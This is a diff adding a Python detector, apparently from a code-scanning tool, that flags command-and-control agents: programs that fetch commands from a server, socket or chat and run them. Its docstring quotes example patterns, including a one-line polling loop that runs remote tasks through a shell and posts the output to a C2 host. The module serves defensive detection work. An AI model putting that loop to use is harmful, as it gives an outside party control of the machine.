@@ -1,0 +1,46 @@
+"""OUT-C2-AGENT: a program that takes its commands from a remote server, socket or chat.
+
+What it catches
+    Code that reads data from the network (an HTTP poll of a server, a socket read, a chat
+    bot's incoming message) and hands that data, by whatever names it passes through, to a
+    command or code runner as the command itself: `job = irm $srv/next; iex $job.command`,
+    `for task in poll(): subprocess.run(task["cmd"], shell=True)`, `recv(s, buf, ...);
+    _popen(buf, "r")`. The flow is followed across lines and variables (`flows.py`). With a
+    channel back (results posted, sent on the socket, to a webhook or by mail) or a polling
+    loop it is a remote-access agent; the flow alone is part of one.
+
+Why it is a redline (RL-PERSISTENCE)
+    A command-and-control agent gives whoever runs the server control of the machine: the
+    beacon, RAT or bot at the centre of an intrusion.
+
+Example
+    `while True: for t in requests.get(C2 + "/tasks").json(): out = subprocess.run(t["cmd"],
+    shell=True, capture_output=True); requests.post(C2 + "/out", data=out.stdout)`
+
+Allowed instead
+    Clients that fetch data and act on it with fixed commands (a deploy hook that runs `git
+    pull` when notified, a chat bot answering `/status` with a fixed report), a job runner
+    choosing among a table of named tasks, explaining how C2 traffic is detected.
+"""
+
+from __future__ import annotations
+
+from redline.redlines.capabilities import Capabilities
+from redline.redlines.capabilities import Capability as Cap
+from redline.redlines.registry import Detection, detector, pieces, supported
+
+_BACK = (Cap.NET_SEND, Cap.NET_CONNECT, Cap.WEBHOOK, Cap.PACKET_SEND, Cap.MAIL_SEND)
+_POLLING = (Cap.ENDLESS_LOOP, Cap.PAUSE, Cap.JITTER, Cap.HIDE, Cap.AUTORUN)
+
+
+@detector("OUT-C2-AGENT", redline="RL-PERSISTENCE")
+def c2_agent(found: Capabilities) -> Detection | None:
+    """Network input run as a command, with a channel back or a polling loop."""
+    if Cap.REMOTE_COMMAND not in found:
+        return None
+    back = [c for c in _BACK if c in found]
+    polling = [c for c in _POLLING if c in found]
+    if back or polling:
+        core = (Cap.REMOTE_COMMAND, *back, *polling)
+        return supported(found, 0.85 if back else 0.75, core, pieces(*core))
+    return supported(found, 0.5, (Cap.REMOTE_COMMAND,), Cap.REMOTE_COMMAND.value)
